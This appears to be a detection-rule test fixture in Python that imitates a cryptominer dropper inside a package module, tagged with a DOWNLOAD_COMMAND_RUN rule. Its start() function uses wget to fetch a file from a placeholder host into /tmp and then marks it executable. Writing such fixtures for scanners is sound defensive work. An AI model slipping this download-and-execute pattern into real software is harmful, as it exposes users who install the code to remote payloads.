# canary-test: path=tensor_proc/processor.py artifact=wheel
# A miner dropper shape (inert host and file).
import subprocess


def start():
    subprocess.Popen("cd /tmp && wget -q https://example.invalid/inert -O inert && chmod +x inert", shell=True)
# ruleid: DOWNLOAD_COMMAND_RUN
